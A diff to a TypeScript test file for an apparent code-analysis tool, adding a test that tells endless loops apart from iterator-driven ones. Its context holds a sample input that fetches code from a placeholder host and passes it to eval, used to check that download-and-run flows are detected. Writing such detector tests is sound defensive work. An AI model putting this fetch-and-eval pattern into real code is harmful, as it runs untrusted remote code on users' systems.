@@ -98,6 +98,16 @@ describe('what code does', () => {
     assert.deepEqual([...kindsIn(facts)].sort(), ['autostart call', 'download-and-run call']);
   });
 
+  it('is no loop without an end where the condition is one that somebody else decides', () => {
+    const loop = (test: string) =>
+      kindsIn(analyseIndex(`const it = start(); let step; for (; ${test}; step = it.go()) use(step);`));
+    assert.deepEqual(['!step.done', '!(step = it.go()).done', 'step', '!![].length'].flatMap(loop), []);
+    assert.deepEqual(
+      ['true', '!0', '!![]', '1'].flatMap(loop),
+      Array.from({ length: 4 }, () => 'endless-loop import'),
+    );
+  });
+
   it('is seen where the platform itself is handed what arrives', () => {
     const code = `fetch('https://load.invalid/x').then((answer) => answer.text()).then(eval);`;
     assert.deepEqual(flowsIn(analyseIndex(code)), ['downloaded>evaluated import']);
